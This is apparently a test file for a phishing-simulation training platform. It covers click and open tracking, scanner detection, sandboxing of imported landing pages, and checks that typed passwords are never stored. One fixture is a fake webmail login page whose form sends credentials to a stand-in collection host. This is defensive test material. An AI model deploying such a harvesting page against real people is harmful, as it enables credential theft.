"""Tracking a simulation: opens, clicks, submissions and reports; scanners kept apart; nothing
a person types is ever stored."""

from __future__ import annotations

import base64
import datetime as dt

import pytest
from django.apps import apps
from django.core import serializers
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from hygie.phishing.lures import get_lure
from hygie.phishing.models import Event, EventKind, Recipient, SendingProfile, Simulation
from hygie.phishing.tracking import new_token

pytestmark = pytest.mark.django_db
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0 Safari/537.36"
TYPED_SECRET = "MonMotDePasse-Secret-2026!"


@pytest.fixture
def recipient(world):
    profile = SendingProfile.objects.create(
        organisation=world.est_a1, name="Relais", host="127.0.0.1", from_address="it@chu-a.example"
    )
    simulation = Simulation.objects.create(
        organisation=world.est_a1, name="Labo mars", sending_profile=profile
    )
    return Recipient.objects.create(
        simulation=simulation,
        staff=world.staff_a1,
        email=world.staff_a1.email,
        service=world.service_a1,
        job_family=world.staff_a1.job_family,
        lure="resultats-laboratoire",
        token=new_token(),
        sent_at=timezone.now() - dt.timedelta(hours=1),
    )


def person() -> Client:
    return Client(HTTP_USER_AGENT=BROWSER, REMOTE_ADDR="10.20.30.40")


def test_tokens_carry_at_least_128_random_bits():
    tokens = {new_token() for _ in range(1000)}
    assert len(tokens) == 1000
    assert all(len(base64.urlsafe_b64decode(token + "=")) * 8 >= 128 for token in tokens)


def test_a_person_clicks_sees_the_landing_page_then_the_teachable_moment(recipient):
    client = person()
    page = client.get(reverse("phishing:landing", args=[recipient.token]))
    assert page.status_code == 200 and 'data-testid="landing-form"' in page.content.decode()
    assert escape(get_lure(recipient.lure).landing.button) in page.content.decode()
    assert page["Cache-Control"].startswith("no-store") or "no-store" in page["Cache-Control"]
    recipient.refresh_from_db()
    assert recipient.first_click_at and recipient.first_open_at  # a click implies an open
    response = client.post(
        reverse("phishing:submit", args=[recipient.token]),
        {"identifiant": "c.martin", "mot_de_passe": TYPED_SECRET},
    )
    assert response["Location"] == reverse("phishing:teachable", args=[recipient.token])
    teachable = client.get(response["Location"]).content.decode()
    lure = get_lure(recipient.lure)
    assert 'data-testid="teachable-signs"' in teachable
    assert all(escape(sign.text) in teachable for sign in lure.teachable.signs)
    assert "rien de ce que vous avez saisi n'a été lu ni conservé" in teachable
    recipient.refresh_from_db()
    assert recipient.submitted_at is not None
    submit = Event.objects.get(recipient=recipient, kind=EventKind.SUBMIT)
    assert not submit.automated


def test_what_a_person_types_is_stored_nowhere(recipient):
    lure_fields = [field.name for field in get_lure(recipient.lure).landing.fields]
    person().post(
        reverse("phishing:submit", args=[recipient.token]),
        dict.fromkeys(lure_fields, TYPED_SECRET),
    )
    event = Event.objects.get(kind=EventKind.SUBMIT)
    assert event.fields == sorted(lure_fields)
    # Every row of every Hygie table, serialised: the typed text appears in none.
    for model in apps.get_models():
        if model._meta.app_label in {"phishing", "core", "assessments", "orgs", "accounts"}:
            dump = serializers.serialize("json", model._base_manager.all())
            assert TYPED_SECRET not in dump, f"{model._meta.label} holds what was typed"


@pytest.mark.parametrize(
    ("request_kwargs", "reason"),
    [
        ({"method": "head"}, "requête HEAD"),
        ({"HTTP_USER_AGENT": "python-requests/2.32"}, "agent utilisateur d'un analyseur"),
        ({"HTTP_USER_AGENT": ""}, "aucun agent utilisateur"),
        ({"REMOTE_ADDR": "40.94.12.7"}, "réseau d'un analyseur"),
        ({"sent_seconds_ago": 3}, "moins de 10 s après l'envoi"),
    ],
    ids=["HEAD", "scanner agent", "no agent", "scanner network", "too soon"],
)
def test_mail_scanners_are_recognised_and_kept_apart(recipient, settings, request_kwargs, reason):
    settings.SIMULATION_SCANNER_NETWORKS = ["40.94.0.0/16"]
    kwargs = {"HTTP_USER_AGENT": BROWSER, "REMOTE_ADDR": "10.20.30.40"}
    kwargs.update({k: v for k, v in request_kwargs.items() if k.isupper()})
    if "sent_seconds_ago" in request_kwargs:
        Recipient.objects.filter(pk=recipient.pk).update(
            sent_at=timezone.now() - dt.timedelta(seconds=request_kwargs["sent_seconds_ago"])
        )
    client = Client()
    url = reverse("phishing:landing", args=[recipient.token])
    method = request_kwargs.get("method", "get")
    assert getattr(client, method)(url, **kwargs).status_code == 200
    event = Event.objects.get(recipient=recipient, kind=EventKind.CLICK)
    assert event.automated and reason in event.reason
    recipient.refresh_from_db()
    assert recipient.first_click_at is None  # not counted as the person's click


def test_the_open_pixel_and_the_report_button(recipient):
    client = person()
    pixel = client.get(reverse("phishing:open", args=[recipient.token]))
    assert pixel["Content-Type"] == "image/gif" and pixel.content.startswith(b"GIF89a")
    report = Client(enforce_csrf_checks=True).post(
        reverse("phishing:report", args=[recipient.token])
    )
    assert report.json() == {"ok": True}
    recipient.refresh_from_db()
    assert recipient.first_open_at and recipient.reported_at
    assert recipient.first_click_at is None


def test_an_unknown_token_is_a_plain_404(recipient):
    for name in ("phishing:open", "phishing:landing", "phishing:teachable"):
        assert person().get(reverse(name, args=["x" * 43])).status_code == 404
    assert person().post(reverse("phishing:report", args=["x" * 43])).status_code == 404
    assert not Event.objects.exists()


IMPORTED_PAGE = """<html><head><style>body{font-family:sans-serif}</style></head><body>
<h1>Portail de messagerie</h1>
<script>document.title = "volé"</script>
<form action="https://collecte.example/login" method="get" id="f">
  <input name="username"><input type="password" name="password"><button>Connexion</button>
</form></body></html>"""


def test_an_imported_landing_page_is_sandboxed_and_posts_to_us_only(recipient):
    from hygie.phishing.models import CustomLure

    custom = CustomLure.objects.create(
        organisation=recipient.simulation.organisation,
        name="Importé de GoPhish",
        sender_name="Messagerie",
        subject="Votre boîte est pleine",
        text="{{lien}}",
        landing_title="Portail",
        landing_fields=[
            {"name": "username", "label": "username", "type": "text"},
            {"name": "password", "label": "password", "type": "password"},
        ],
        landing_html=IMPORTED_PAGE,
        teachable_title="C'était un exercice",
        teachable_body="Une boîte pleine est un prétexte classique.",
        source="gophish",
    )
    Recipient.objects.filter(pk=recipient.pk).update(lure=custom.key)
    page = person().get(reverse("phishing:landing", args=[recipient.token]))
    html = page.content.decode()
    submit = reverse("phishing:submit", args=[recipient.token])
    assert f'<form action="{submit}" method="post" id="f">' in html
    assert "collecte.example" not in html
    policy = page["Content-Security-Policy"]
    assert policy.startswith("sandbox allow-forms;")  # no allow-scripts, no allow-same-origin
    assert "default-src 'none'" in policy and f"form-action http://testserver{submit}" in policy

    # The sandboxed page has no cookie, so no CSRF token: the post is accepted on the token.
    poster = Client(enforce_csrf_checks=True, HTTP_USER_AGENT=BROWSER, REMOTE_ADDR="10.20.30.40")
    answer = poster.post(submit, {"username": "jdupont", "password": TYPED_SECRET})
    assert answer.status_code == 302
    event = Event.objects.get(kind=EventKind.SUBMIT)
    assert event.fields == ["password", "username"]
    assert TYPED_SECRET not in serializers.serialize("json", Event.objects.all())
